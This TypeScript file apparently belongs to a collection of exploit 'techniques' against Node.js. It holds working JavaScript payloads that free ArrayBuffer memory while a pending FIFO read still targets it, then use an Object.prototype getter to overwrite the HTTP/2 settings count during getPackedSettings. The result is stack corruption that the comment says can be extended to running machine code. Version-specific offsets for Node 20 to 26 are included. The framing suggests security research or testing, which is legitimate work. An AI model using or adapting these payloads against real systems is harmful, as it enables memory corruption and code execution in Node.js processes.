/**
 * These techniques write to memory that an ArrayBuffer had, and that Node.js gave to an array of its own: the settings of
 * HTTP/2. Node.js copies as many of them to its stack as a number in that array says. The number is written after
 * JavaScript has set it: a getter lets the late write happen. So Node.js ends with a broken stack, and with more care
 * such a program runs machine code. Otherwise it prints `packed 0`.
 */

import { execFileSync } from "../../outside.js";
import { type Technique, withData } from "../technique.js";

/** The number is at the end of the array, before ten settings. It becomes 4096. */
const COMMON = `
const fs = require("fs");
const bytes = process.version.startsWith("v20") ? 400 : 416;
const at = { 20: 316, 22: 328, 24: 328, 26: 332 }[process.version.slice(1, 3)];
const number = Buffer.from([0, 16, 0, 0]);
for (const name of ["http", "https", "tls", "stream", "url", "dns", "string_decoder", "timers", "diagnostics_channel"]) require(name);
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const sleep = (ms) => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, ms);
const collect = async () => {
  for (let round = 0; round < 6; round++) {
    let garbage = [];
    for (let i = 0; i < 400_000; i++) garbage = [garbage.length];
    await wait(10);
  }
};
const free = (buffer) => { structuredClone(buffer, { transfer: [buffer] }); };
const pack = (write) => {
  const http2 = require("http2");
  let reads = 0;
  Object.defineProperty(Object.prototype, "headerTableSize", { configurable: true, get() {
    if (++reads === 2) write();
  } });
  console.log("packed", http2.getPackedSettings({}).length);
  process.exit();
};
`;

const byFifo = (name: string, make: string): Technique =>
	withData(
		name,
		`process.env.UV_THREADPOOL_SIZE = "64";
${COMMON}
const fifo = fs.openSync(data + "/fifo", "r+");
const make = ${make};
(async () => {
  const kept = [];
  await (async () => {
    const freed = [];
    for (let i = 0; i < 128; i++) (i % 2 ? freed : kept).push(make(bytes));
    for (const buffer of freed) fs.read(fifo, Buffer.from(buffer, at, 4), 0, 4, null, () => {});
    await wait(200);
    freed.forEach(free);
  })();
  await collect();
  pack(() => {
    for (let i = 0; i < 64; i++) fs.writeSync(fifo, number);
    sleep(300);
  });
})();
`,
		{ arrange: ({ data }) => execFileSync("sh", ["-c", `rm -f ${data}/fifo; mkfifo ${data}/fifo`]) },
	);

export const trustedNumbers: readonly Technique[] = [
	byFifo("number of settings of HTTP/2, in memory of an ArrayBuffer", "(length) => new ArrayBuffer(length)"),
	byFifo(
		"number of settings of HTTP/2, in memory of Buffer.allocUnsafeSlow()",
		"(length) => Buffer.allocUnsafeSlow(length).buffer",
	),
];
